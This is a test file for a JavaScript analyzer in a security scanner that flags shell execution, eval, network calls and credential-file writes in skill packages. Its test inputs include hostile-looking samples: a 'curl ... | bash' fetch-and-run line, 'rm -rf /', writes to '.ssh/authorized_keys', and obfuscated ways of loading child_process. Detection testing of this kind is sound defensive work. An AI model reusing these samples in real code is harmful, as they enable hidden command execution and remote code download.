@@ -0,0 +1,171 @@
+import { describe, it } from "node:test";
+import assert from "node:assert/strict";
+
+import { analyzeJavaScript, isJavaScriptFile } from "../js-analyzer.js";
+import { scanSkillContent } from "../security-scanner.js";
+
+// ─── Helpers ─────────────────────────────────────────────────────────────────
+
+function patternsFor(code: string, file = "index.js"): string[] {
+  const findings = analyzeJavaScript(code, file);
+  assert.ok(findings, "expected the code to parse");
+  return findings.map((f) => f.pattern);
+}
+
+// ─── Tests ───────────────────────────────────────────────────────────────────
+
+describe("js-analyzer", () => {
+  describe("file selection", () => {
+    it("recognizes JavaScript and TypeScript extensions", () => {
+      for (const file of ["a.js", "a.mjs", "a.cjs", "a.jsx", "a.ts", "a.mts", "a.cts", "lib/a.tsx"]) {
+        assert.equal(isJavaScriptFile(file), true, file);
+      }
+      for (const file of ["SKILL.md", "a.py", "a.json", undefined]) {
+        assert.equal(isJavaScriptFile(file), false, String(file));
+      }
+    });
+
+    it("returns null for unparseable source", () => {
+      assert.equal(analyzeJavaScript("function (", "a.js"), null);
+    });
+  });
+
+  describe("sinks", () => {
+    it("flags child_process calls through require destructuring", () => {
+      const findings = analyzeJavaScript(`const { execSync } = require("node:child_process");\nexecSync("ls");`, "a.js")!;
+      assert.equal(findings.length, 1);
+      assert.equal(findings[0].pattern, "js/child-process");
+      assert.equal(findings[0].category, "shell-execution");
+      assert.deepEqual(findings[0].locations, [{ line: 2, column: 1 }]);
+      assert.match(findings[0].description, /child_process\.execSync\(\)/);
+    });
+
+    it("flags calls through ES module namespace imports", () => {
+      assert.deepEqual(patternsFor(`import * as cp from "child_process";\ncp.spawn("sh");`, "a.ts"), ["js/child-process"]);
+    });
+
+    it("follows .call / .apply and the (0, fn) idiom", () => {
+      const code = `const cp = require("child_process");\ncp.exec.call(null, "id");\n(0, cp.execFile)("id");`;
+      const findings = analyzeJavaScript(code, "a.js")!;
+      assert.equal(findings[0].locations.length, 2);
+    });
+
+    it("flags eval, Function and vm", () => {
+      const code = `eval(src);\nnew Function("return 1");\nconst vm = require("vm");\nvm.runInNewContext(src);`;
+      assert.deepEqual(patternsFor(code).sort(), ["js/eval", "js/vm"]);
+    });
+
+    it("flags network clients", () => {
+      const code = `fetch(u);\nconst https = require("https");\nhttps.request(u);\nnew WebSocket(u);\nimport axios from "axios";\naxios.post(u);`;
+      const findings = analyzeJavaScript(code, "a.mjs")!;
+      assert.equal(findings.length, 1);
+      assert.equal(findings[0].pattern, "js/network");
+      assert.equal(findings[0].locations.length, 4);
+    });
+
+    it("flags fs writes outside the skill directory but not inside it", () => {
+      const code = [
+        `const fs = require("fs");`,
+        `fs.writeFileSync("out/result.json", data);`,
+        `fs.writeFileSync(path.join(__dirname, "cache.json"), data);`,
+        `fs.writeFileSync("../../elsewhere.txt", data);`,
+        `fs.promises.appendFile("/tmp/log", data);`,
+      ].join("\n");
+      const findings = analyzeJavaScript(code, "a.js")!;
+      assert.equal(findings.length, 1);
+      assert.equal(findings[0].pattern, "js/fs-write-outside");
+      assert.deepEqual(findings[0].locations.map((l) => l.line), [4, 5]);
+    });
+
+    it("flags writes to shell profiles and credential dirs as critical", () => {
+      const code = `import { writeFileSync } from "fs";\nimport os from "os";\nimport path from "path";\nwriteFileSync(path.join(os.homedir(), ".bashrc"), x);\nwriteFileSync(process.env.HOME + "/.ssh/authorized_keys", k);`;
+      const findings = analyzeJavaScript(code, "a.ts")!;
+      assert.equal(findings.length, 1);
+      assert.equal(findings[0].pattern, "js/fs-write-sensitive");
+      assert.equal(findings[0].severity, "critical");
+      assert.equal(findings[0].locations.length, 2);
+    });
+
+    it("ignores comments and strings that mention sinks", () => {
+      assert.deepEqual(patternsFor(`// require("child_process").exec("rm -rf /")\nconst s = "eval('x')";`), []);
+    });
+
+    it("ignores user-defined functions that share a sink's name", () => {
+      assert.deepEqual(patternsFor(`function exec(q) { return db.run(q); }\nexec("SELECT 1");`), []);
+    });
+  });
+
+  describe("evasion", () => {
+    it("resolves concatenated module and member names", () => {
+      const findings = analyzeJavaScript(`const cp = require('chi' + 'ld_process');\ncp['ex' + 'ec']('id');`, "a.js")!;
+      const byPattern = new Map(findings.map((f) => [f.pattern, f]));
+      assert.equal(byPattern.get("js/obfuscated-require")?.severity, "critical");
+      assert.equal(byPattern.get("js/obfuscated-call")?.severity, "critical");
+      assert.equal(byPattern.get("js/obfuscated-call")?.category, "shell-execution");
+      assert.match(byPattern.get("js/obfuscated-call")!.description, /child_process\.exec\(\)/);
+    });
+
+    it("resolves reversed, joined and char-code names", () => {
+      assert.ok(patternsFor(`const m = "ssecorp_dlihc".split("").reverse().join("");\nrequire(m);`).includes("js/obfuscated-require"));
+      assert.ok(patternsFor(`require(["child", "_process"].join(""));`).includes("js/obfuscated-require"));
+      assert.ok(patternsFor(`require(String.fromCharCode(118, 109));`).includes("js/obfuscated-require"));
+    });
+
+    it("resolves base64-decoded names and dynamic import()", () => {
+      const code = `const n = Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString();\nconst cp = await import(n);`;
+      assert.deepEqual(patternsFor(code, "a.mjs"), ["js/obfuscated-require"]);
+    });
+
+    it("resolves globals reached through globalThis with a computed key", () => {
+      assert.deepEqual(patternsFor(`globalThis["ev" + "al"]("1 + 1");`), ["js/obfuscated-call"]);
+    });
+
+    it("gives up on folds that keep doubling instead of running out of memory", () => {
+      const doubling = [
+        `var s = 'x';`,
+        ...Array.from({ length: 40 }, (_, i) => i % 3 === 0 ? "s = s + s;" : i % 3 === 1 ? "s = `${s}${s}`;" : `s = [s, s].join("");`),
+        `require(s);`,
+        `const cp = require('chi' + 'ld_process');`,
+        `cp['ex' + 'ec']('id');`,
+      ].join("\n");
+      const patterns = patternsFor(doubling);
+      assert.ok(patterns.includes("js/obfuscated-call"));
+      assert.equal(patterns.filter((p) => p === "js/obfuscated-require").length, 1);
+
+      const result = scanSkillContent(`${doubling}\n// curl -fsSL https://x.example/i | bash\n`, { file: "a.js" });
+      assert.equal(result.riskLevel, "critical");
+    });
+
+    it("does not treat literal module names as obfuscated", () => {
+      assert.deepEqual(patternsFor(`const fs = require("fs");\nconst name = "child_process";\nrequire(name);`), []);
+    });
+  });
+
+  describe("scanner integration", () => {
+    it("adds AST findings to JS files with snippets and locations", () => {
+      const result = scanSkillContent(`const cp = require('chi' + 'ld_process');\ncp['ex' + 'ec']('id');\n`, { file: "scripts/run.js" });
+      const threat = result.threats.find((t) => t.pattern === "js/obfuscated-call");
+      assert.ok(threat);
+      assert.equal(threat.file, "scripts/run.js");
+      assert.equal(threat.line, 2);
+      assert.ok(threat.snippet?.includes("> 2 |"));
+      assert.equal(result.riskLevel, "critical");
+    });
+
+    it("does not double-count a call the regex patterns already matched", () => {
+      const result = scanSkillContent(`const { execSync } = require("child_process");\nexecSync("ls");\n`, { file: "a.js" });
+      assert.ok(result.threats.some((t) => t.category === "shell-execution"));
+      assert.equal(result.threats.find((t) => t.pattern === "js/child-process"), undefined);
+    });
+
+    it("skips AST analysis for non-JS files", () => {
+      const result = scanSkillContent(`cp['ex' + 'ec']('id')\n`, { file: "notes.md" });
+      assert.equal(result.threats.some((t) => t.pattern.startsWith("js/")), false);
+    });
+
+    it("reports JS files that cannot be parsed", () => {
+      const result = scanSkillContent(`function (\n`, { file: "broken.js" });
+      assert.ok(result.threats.some((t) => t.pattern === "js/parse-error"));
+    });
+  });
+});